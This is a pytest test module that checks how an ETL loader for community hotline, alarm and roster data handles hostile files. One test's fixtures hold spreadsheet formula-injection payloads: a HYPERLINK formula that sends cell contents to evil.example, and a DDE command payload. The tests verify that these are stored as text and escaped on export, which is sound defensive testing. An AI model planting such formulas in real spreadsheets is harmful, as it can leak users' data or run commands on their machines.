"""Drill 3, hostile files (hand-made; test_hostile_properties.py generates them): a
truncated workbook, UTF-16 with and without a byte-order mark, an empty and a header-only
file, 100,000 columns, a 10 MB cell, control characters, formula text, dates in 1900 and
2100, ID numbers with spaces and a lowercase x, a key twice in one file.

Each: no traceback, nothing partial (hostile.all_or_nothing), and a clear message or a
reject with its reason. tests/test_etl_refused.py has the refused-whole basics."""
from __future__ import annotations

import csv
import datetime as dt
import io
import time

import duckdb
import openpyxl
import pandas as pd
import pytest

from boardkit.render.exports import csv_bytes, xlsx_bytes
from etl_helpers import DATA

from .common import etl_cli, report
from .hostile import all_or_nothing, load

HEADER = ["工单编号", "受理时间", "诉求内容", "所属居委", "工单状态"]
SIZES = [pytest.param(6, id="ci"), pytest.param(60, id="full", marks=pytest.mark.drill)]
_tried: dict[str, int] = {}
_seconds: dict[str, float] = {}  # how long the big ones took: in the summary, never asserted


@pytest.fixture(scope="module", autouse=True)
def _summary():
    yield
    if _tried:
        report("Hostile files, hand-made", [f"{k}: {v}" for k, v in _tried.items()]
               + [f"{k}: loaded in {v:.1f} s" for k, v in _seconds.items()]
               + [f"files tried: {sum(_tried.values())}; failures: see the outcomes"])


def _csv(rows: list[list[str]], header=HEADER) -> str:
    out = io.StringIO()
    csv.writer(out, lineterminator="\n").writerows([header] + rows)
    return out.getvalue()


def _check(db, results) -> None:
    con = duckdb.connect(str(db.resolve()), read_only=True)
    try:
        problems = [p for r in results for p in all_or_nothing(con, r)]
    finally:
        con.close()
    assert problems == []


def _q(db, sql, params=None):
    con = duckdb.connect(str(db.resolve()), read_only=True)
    try:
        return con.execute(sql, params or []).fetchall()
    finally:
        con.close()


@pytest.mark.parametrize("cuts", SIZES)
def test_truncated_workbooks(cuts, db_path, tmp_path):
    whole = (DATA / "hotline.xlsx").read_bytes()
    paths = []
    for i in range(1, cuts + 1):  # cut anywhere: an interrupted download or copy
        path = tmp_path / f"cut-{i:03d}.xlsx"
        path.write_bytes(whole[: len(whole) * i // (cuts + 1)])
        paths.append(path)
    results = load(db_path, "hotline", *paths)
    _tried["truncated XLSX"] = len(paths)
    assert {r.status for r in results} == {"refused"}
    assert all("Excel" in r.message for r in results), [r.message for r in results]
    _check(db_path, results)


def test_utf16_with_and_without_bom(db_path, tmp_path):
    def text(n: int) -> str:  # each file its own tickets, so no load updates another's rows
        return _csv([[f"U{n}-{i}", "2020-02-03 09:00", "咨询口罩一村", "八一", "处理中"] for i in range(3)])
    files = {"le-bom.csv": text(1).encode("utf-16"), "be-bom.txt": b"\xfe\xff" + text(2).encode("utf-16-be"),
             "le-nobom.csv": text(3).encode("utf-16-le"), "be-nobom.csv": text(4).encode("utf-16-be"),
             "le-cut.csv": text(5).encode("utf-16")[:-1],          # odd length: cut inside a character
             "bom-then-gbk.csv": b"\xef\xbb\xbf" + text(6).encode("gb18030")}
    paths = []
    for name, data in files.items():
        (tmp_path / name).write_bytes(data)
        paths.append(tmp_path / name)
    results = load(db_path, "hotline", *paths)
    _tried["UTF-16 / encoding"] = len(results)
    by_name = {r.path.name: r for r in results}
    for name in ("le-bom.csv", "be-bom.txt", "le-nobom.csv", "be-nobom.csv"):
        assert (by_name[name].status, by_name[name].rows_loaded) == ("loaded", 3), (name, by_name[name].message)
    for name in ("le-cut.csv", "bom-then-gbk.csv"):
        assert by_name[name].status == "refused" and "编码" in by_name[name].message, by_name[name].message
    assert _q(db_path, "SELECT DISTINCT content FROM hotline_tickets") == [("咨询口罩一村",)]
    _check(db_path, results)


def test_empty_and_header_only(db_path, tmp_path):
    book = openpyxl.Workbook()
    book.active.append(HEADER)
    book.save(tmp_path / "header-only.xlsx")
    (tmp_path / "empty.csv").write_bytes(b"")
    (tmp_path / "header-only.csv").write_text(",".join(HEADER) + "\n", encoding="utf-8")
    (tmp_path / "header-only-no-newline.csv").write_text(",".join(HEADER), encoding="utf-8")
    names = ["empty.csv", "header-only.csv", "header-only-no-newline.csv", "header-only.xlsx"]
    results = load(db_path, "hotline", *(tmp_path / n for n in names))
    _tried["empty / header only"] = len(results)
    assert (results[0].status, results[0].message) == ("refused", "文件为空")
    for r in results[1:]:
        assert (r.status, r.rows_read) == ("loaded", 0) and "没有数据行" in r.message, (r.path.name, r.message)
    _check(db_path, results)


def test_hundred_thousand_columns(db_path, tmp_path):
    extra = [f"多余列{i}" for i in range(100_000)]
    path = tmp_path / "wide.csv"
    path.write_text(_csv([["W1", "2020-02-03 09:00", "宽表", "八一", "处理中"] + [""] * 100_000], HEADER + extra),
                    encoding="utf-8")
    started = time.monotonic()
    [r] = load(db_path, "hotline", path)
    seconds = time.monotonic() - started
    _tried["100,000 columns"] = 1
    _seconds["100,000 columns"] = seconds  # reported, not asserted: speed is bench/'s business
    assert (r.status, r.rows_loaded) == ("loaded", 1)
    assert "等共 100000 列" in r.message and len(r.message) < 1000, r.message[:300]
    assert len(_q(db_path, "SELECT message FROM etl_runs")[0][0]) < 1000
    _check(db_path, [r])


def test_ten_megabyte_cell_through_the_cli(db_path, tmp_path):
    """The CLI, with topic classification on as operators run it."""
    big = "居民反映" + "楼道堆物" * (10 * 1024 * 1024 // 12)
    path = tmp_path / "big-cell.csv"
    path.write_text(_csv([["B1", "2020-02-03 09:00", big, "八一", "处理中"],
                          ["B2", "2020-02-03 10:00", "普通工单", "八一", "处理中"]]), encoding="utf-8")
    started = time.monotonic()
    proc = etl_cli("load", "hotline", path, "--db", db_path)
    _tried["10 MB cell (CLI)"] = 1
    _seconds["10 MB cell (CLI)"] = time.monotonic() - started
    assert proc.returncode == 0 and "Traceback" not in proc.stderr, proc.stderr[-2000:]
    assert "入库 2 行" in proc.stdout, proc.stdout
    assert _q(db_path, "SELECT ticket_id, length(content) FROM hotline_tickets ORDER BY 1") == [
        ("B1", len(big)), ("B2", 4)]


def test_control_characters_and_formulas(db_path, tmp_path):
    hostile = {"C1": "控制\x00字符\x07\x1b[31m红\u202e反转\x7f", "C2": "\x0b\x0c竖排\x1f",
               "F1": '=HYPERLINK("http://evil.example/?q="&A1,"点击查看")', "F2": "+1+1", "F3": "@SUM(A1:A9)",
               "F4": "-2+3", "F5": "=cmd|' /C calc'!A0"}
    path = tmp_path / "hostile-text.csv"
    path.write_text(_csv([[k, "2020-02-03 09:00", v, "八一", "处理中"] for k, v in hostile.items()]),
                    encoding="utf-8")
    [r] = load(db_path, "hotline", path)
    _tried["control characters / formulas"] = len(hostile)
    assert (r.status, r.rows_loaded) == ("loaded", len(hostile)), r.message
    _check(db_path, [r])
    stored = dict(_q(db_path, "SELECT ticket_id, content FROM hotline_tickets"))
    for key in ("F1", "F2", "F3", "F4", "F5"):  # kept as the text that was typed, never evaluated
        assert stored[key] == hostile[key]
    assert stored["C1"].startswith("控制") and "红" in stored["C1"]

    frame = pd.DataFrame({"工单编号": list(stored), "诉求内容": list(stored.values())})
    text = csv_bytes(frame).decode("utf-8-sig")
    for key in ("F1", "F2", "F3", "F5"):
        assert "'" + hostile[key].split('"')[0] in text, key
    sheet = openpyxl.load_workbook(io.BytesIO(xlsx_bytes({"清单": frame}))).active
    cells = {row[0].value: row[1] for row in sheet.iter_rows(min_row=2)}
    for key in ("F1", "F2", "F3", "F5"):
        assert cells[key].data_type == "s" and cells[key].value.startswith("'"), (key, cells[key].value)


def test_dates_in_1900_and_2100(db_path, tmp_path):
    when = {"D1": "1900-01-01 09:00", "D2": "1900/1/1", "D3": "2100-01-01 09:00", "D4": "2100年1月1日",
            "D5": "1", "D6": "0", "D7": "1899-12-31", "OK": "2020-02-03 09:00"}
    hotline = tmp_path / "dates.csv"
    hotline.write_text(_csv([[k, v, "日期", "八一", "处理中"] for k, v in when.items()]), encoding="utf-8")
    book = openpyxl.Workbook()
    book.active.append(["报警编号", "设备编号", "报警类型", "报警时间", "居民区"])
    for key, moment in (("X1", dt.datetime(1900, 1, 1, 8)), ("X2", dt.datetime(1900, 3, 1)),
                        ("X3", dt.datetime(2100, 1, 1)), ("XOK", dt.datetime(2020, 2, 3, 22, 10))):
        book.active.append([key, "MC1", "开门", moment, "八一"])
    alarms = tmp_path / "alarm-dates.xlsx"
    book.save(alarms)
    results = load(db_path, "hotline", hotline) + load(db_path, "alarms", alarms)
    _tried["dates 1900/2100"] = len(when) + 4
    _check(db_path, results)
    assert _q(db_path, "SELECT ticket_id FROM hotline_tickets") == [("OK",)]
    assert _q(db_path, "SELECT alarm_id FROM alarms") == [("XOK",)]
    codes = dict(_q(db_path, "SELECT value_masked, reason_code FROM etl_rejects WHERE column_name IN "
                             "('received_at', 'raised_at')"))
    assert codes["1900-01-01 09:00"] == "too_old" and codes["2100-01-01 09:00"] == "future_date"
    assert set(codes.values()) <= {"too_old", "future_date", "bad_timestamp"}
    assert len(codes) == len(when) - 1 + 3


def test_id_numbers_with_spaces_and_lowercase_x(db_path, tmp_path):
    header = ["姓名", "身份证号", "居民区", "抵沪日期"]
    (tmp_path / "a.csv").write_text(_csv([["杨玉环", "310105 19720505 016x", "八一", "2020-02-04"]], header),
                                    encoding="utf-8")
    (tmp_path / "b.csv").write_text(_csv([["杨玉环", "31010519720505016X", "八一", "2020-02-10"]], header),
                                    encoding="utf-8")
    results = load(db_path, "roster", tmp_path / "a.csv") + load(db_path, "roster", tmp_path / "b.csv")
    _tried["ID numbers with spaces / lowercase x"] = 2
    _check(db_path, results)
    assert [(r.rows_loaded, r.rows_warned) for r in results] == [(1, 0), (1, 0)]
    stored = _q(db_path, "SELECT person_key, id_masked, id_valid FROM roster_reports ORDER BY arrived_on")
    assert len(stored) == 2 and stored[0] == stored[1] and stored[0][2] is True  # the same person


def test_duplicate_keys_in_one_file_later_row_wins(db_path, tmp_path):
    """data-contract.md: the later row wins; the earlier is a `duplicate_in_file` reject."""
    hotline = tmp_path / "dup-hotline.csv"
    hotline.write_text(_csv([["K1", "2020-02-03 09:00", "第一次", "八一", "处理中"],
                             ["K2", "2020-02-03 09:00", "唯一", "八一", "处理中"],
                             [" K1 ", "2020-02-03 10:00", "第二次", "八一", "已办结"]]), encoding="utf-8")
    alarms = tmp_path / "dup-alarms.csv"
    alarms.write_text(_csv([["A1", "MC1", "开门", "2020-02-03 22:10", "八一", "未处置"],
                            ["A1", "MC1", "开门", "2020-02-03 22:10", "八一", "已处置"]],
                           ["报警编号", "设备编号", "报警类型", "报警时间", "居民区", "处置状态"]), encoding="utf-8")
    results = load(db_path, "hotline", hotline) + load(db_path, "alarms", alarms)
    _tried["duplicate keys in one file"] = 2
    _check(db_path, results)
    assert _q(db_path, "SELECT ticket_id, content, status FROM hotline_tickets ORDER BY 1") == [
        ("K1", "第二次", "closed"), ("K2", "唯一", "in_progress")]
    assert _q(db_path, "SELECT alarm_id, status FROM alarms") == [("A1", "handled")]
    assert _q(db_path, "SELECT file_name, row_number, reason_code, reason FROM etl_rejects ORDER BY file_name") == [
        ("dup-alarms.csv", 2, "duplicate_in_file", "同一文件中报警编号重复，以第 3 行为准"),
        ("dup-hotline.csv", 2, "duplicate_in_file", "同一文件中工单编号重复，以第 4 行为准")]


def test_ragged_rows_stray_quotes_and_cr_line_ends(db_path, tmp_path):
    """UTF-8 CSVs that Arrow's fast reader refuses, so the reader parses them in Python:
    that fallback must work inside a load (it once met an aborted transaction)."""
    files = {"ragged.csv": "工单编号,受理时间,诉求内容\nR1,2020-02-03 09:00,内容,多,余\nR2,2020-02-03 09:00\n",
             "cr-only.csv": "工单编号,受理时间,诉求内容\rC1,2020-02-03 09:00,内容\rC2,2020-02-03 09:00,内容\r",
             "open-quote.csv": '工单编号,受理时间,诉求内容\nQ1,2020-02-03 09:00,"没有闭合\nQ2,2020-02-03 09:00,内容\n'}
    for name, text in files.items():
        (tmp_path / name).write_text(text, encoding="utf-8")
    results = load(db_path, "hotline", *(tmp_path / n for n in files))
    _tried["ragged rows / stray quote / CR line ends"] = len(results)
    _check(db_path, results)
    assert [(r.status, r.rows_loaded, r.rows_rejected) for r in results] == [
        ("loaded", 1, 1), ("loaded", 2, 0), ("refused", 0, 0)]
    assert "无法按 CSV 格式读取" in results[2].message  # not Q2 swallowed into Q1's cell


def test_cli_mixed_batch(db_path, tmp_path):
    """One command, hostile and good files together: one line each, the good ones loaded."""
    files = {"empty.csv": b"", "only-header.csv": ",".join(HEADER).encode(),
             "nobom.csv": _csv([["N1", "2020-02-03 09:00", "无BOM", "八一", "处理中"]]).encode("utf-16-le"),
             "cut.xlsx": (DATA / "hotline.xlsx").read_bytes()[:2000],
             "random.csv": bytes(range(256)) * 8,
             "good.csv": _csv([["G1", "2020-02-03 09:00", "好文件", "八一", "处理中"],
                               ["G2", "1900-01-01", "旧日期", "八一", "处理中"]]).encode("utf-8")}
    for name, data in files.items():
        (tmp_path / name).write_bytes(data)
    proc = etl_cli("load", "hotline", *(tmp_path / n for n in files), "--db", db_path)
    _tried["CLI mixed batch"] = len(files)
    assert proc.returncode == 1 and "Traceback" not in proc.stdout + proc.stderr, proc.stderr[-2000:]
    lines = [line for line in (proc.stdout + proc.stderr).splitlines() if line.startswith(("导入", "拒收"))]
    assert sorted(line.split()[1].split("：")[0] for line in lines) == sorted(files)
    assert "导入  good.csv：读取 2 行，入库 1 行，拒收 1 行" in proc.stdout
    assert _q(db_path, "SELECT ticket_id FROM hotline_tickets ORDER BY 1") == [("G1",), ("N1",)]
